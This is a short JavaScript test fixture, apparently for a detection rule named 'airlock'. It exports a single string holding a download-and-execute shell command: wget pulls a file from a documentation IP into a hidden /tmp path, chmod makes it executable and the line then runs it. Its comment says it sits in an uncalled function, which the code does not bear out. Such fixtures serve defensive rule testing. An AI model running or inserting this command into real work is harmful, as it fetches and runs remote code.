// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const cmd = 'wget -qO /tmp/.d http://198.51.100.40/d; chmod +x /tmp/.d; /tmp/.d';
module.exports = { cmd };
